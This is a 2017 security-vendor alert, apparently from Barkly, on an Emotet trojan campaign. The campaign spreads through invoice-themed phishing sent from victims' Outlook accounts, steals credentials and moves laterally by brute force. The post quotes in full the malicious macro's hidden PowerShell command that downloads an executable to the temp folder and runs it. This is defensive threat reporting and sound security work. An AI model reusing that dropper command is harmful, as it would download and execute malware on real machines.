Security Alert
Jonathan Crowe
Jul 2017

Emotet Trojan Reads Your Email, Uses it to Infect More Victims

Not only does the latest version of Emotet steal a variety of credentials from its victims, it also raids their Outlook account for names and email addresses, then uses it to send out spam messages designed to spread the infection.

Key Details

  • What's happening?

    A new wave of Emotet trojan infections is spreading via phishing emails sent from compromised Outlook accounts.

  • What do the phishing emails look like?

    The emails are disguised to look like invoice notices sent by contacts the recipient has emailed in the past, perhaps even recently. They include a link that downloads a malicious Word document.

  • What is Emotet?

    Emotet has traditionally been recognized as a banking trojan, though in this case it appears to be serving as more of a general credentialstealer and potentially a downloader foradditional malware.

  • Barkly blocks these attacks before Emotet can even be downloaded

    These attacks rely on an Office macro hidden in the "invoice" Word doc to download the Emotet payload using a PowerShell command. Barkly sees that suspicious behavior and blocks it before the command can be completed. Watch for yourself in the video below:

  • Additional ways to protect your company:

    Phishing emails with fake invoices aren't exactly a new threat, but when they come from a vendoryour company uses they can be convincing. Share this alert with your users so they can be especially wary of this threat, and if possible, consider disabling macros by default across your organization.

  • empty
  • empty
  • empty

ALERT: Due to a recent surge of Emotet activity and requests for assistance, we're providing more information on how to stop infections and how Barkly can help.
Get help

New Emotet campaigns use victim email accounts to spread the infectionA new wave of phishing emails have been spotted this week distributing Emotet, a credential-stealing trojan that's been actively ramping up activities and evolving since May.

At first glance, these appear to be a fairly run-of-the-mill phishing campaigns complete with booby-trapped Word documents disguised as invoices. But on further investigation, it appears Emotet is taking things a step further by scraping names and email addresses from victim Outlook accounts, then using that info to send out additional phishing emails from the compromised accounts.

As a result, the emails in these campaigns look as though they've been sent from a contact the recipient knows and has emailed in the past. That can naturally increase their effectiveness, and earlier this week Barkly prevented an infectionat one of our customers, where an employee opened and clicked on the email below:


There are plenty of flags here that security awareness programs can train users to recognize, but the simple fact is because the email appeared to be from a vendor the recipient knew, it was instantly more credible.

Clicking on the link in the email downloaded a Microsoft Word document that instructed the user they needed to enable macros in order to view it.

Screen Shot 2017-07-27 at 12.43.46 AM.png

Once enabled, a macro in the Word doc attempted to launch the following PowerShell commanddesigned to grab the Emotet payload, which appears to be hosted on a number of compromised websites.

"powershell -WindowStyle Hidden $wscript = new-object -ComObject WScript.Shell;$webclient = new-object System.Net.WebClient;$random = new-object random;$urls = ',,,,'.Split(',');$name = $, 65536);$path = $env:temp + '\' + $name + '.exe';foreach($url in $urls){try{$webclient.DownloadFile($url.ToString(), $path);Start-Process $path;break;}catch{write-host $_.Exception.Message;}}",

At this point, Barkly's behavior analysis noticed the macroattempting to do something it shouldn't and immediately shut down the attack. By blocking the command from executing, Barkly prevented the Emotet payload from even touching the machine.

Blocking Emotet before it lands on a device is crucial, because once there it has several tricks up its sleeve to designed to spread the infection laterally inside the organization and externally, as well.


Abusing victim email accounts to send more phishing emails

According to analysis from Fortinet, once it's set up shopon an infected device, one of Emotet's tasks is to scour the victim's Microsoft Outlook account by reading the PST file, which stores email messages, calendar info, and more. It specifically hones in on any email messages with an unread status, and collects the sender name and email address from each unread message.

The stolen names and email addresses are stored in a temporary file, then encrypted and delivered to a command and control (C&C) server.

The C&C server responds by sending back the phishing email message along with the email addresses the message will be sent to. From there, Emotet utilizes SMTP protocol to send out the emails, keeping the campaign alive and spreading to new victims.

Emotet doesn't stop there, however. It continues the attack on the original infected device by stealing additional account credentials, including but not limited to:

  • Google accounts
  • Office Outlook
  • FTP accounts saved in IE
  • MSN Messenger
  • Google Talk
  • IncrediMail
  • Group Mail
  • Mozilla Thunderbird

Lateral movementResearchers from Fidelis Security have also observed recent variants of Emotet exercising internal network propagation capabilities similar to the QakBot banking trojan. These mostly rely on attempts at brute-forcing any shares or accounts that allow it to write a file and create a remote service, which it tries to disguise with the name, "Windows Defender System Service". The service then writes Emotet to the remote computer and executes it.

If successful, this propagation technique significantly raises the impact of an Emotet infection. Rather than dealing with a single compromised machine, you could have infections thoughout the organization to deal with.

Even if it isn't successful, because brute-forcing is involved, infections also introduce the risk of account lockouts en masse (a major problem seen with QakBot infections earlier this year).

Protecting your company from Emotet

Phishingemails disguised as fake invoices are nothing new, but when they look like they're coming from a vendor your company actually does business with, they can be convincing.

Sharing this alert with your users so they can be especially wary of this threat is a good place to start, but you should also take steps to ensure you're prepared for any mistakes or unfortunate clicks that do happen.

If possible, consider disabling macros by default across your organization. Explain to users that when a document they download from an email asks them to enable macros or "enable content" that's a major red flag.

Making sure AV is installed and up-to-date across your organization is another must, but for more complete protection you should also have endpoint protection that detects and blocks malicious behaviors.

At the time of this writing, this new variant of Emotet has a very low detection rate among traditional security products.The customer Barkly protected on Wednesday was running a major AV solution that missed the attack completely. Learn more about how Barkly compliments AV and fills in the gaps in AV protection.

SHA256 hash:


Jonathan Crowe

Jonathan Crowe

Jonathan covers the latest threats and cybersecurity trends from a practical perspective.


Emotet Survival Handbook

How to deal with active infections and protect your company from2018's most prevalent threat.

Lookinside


Stay informed!

Get the latest security news, tips, and trends straight to your inbox.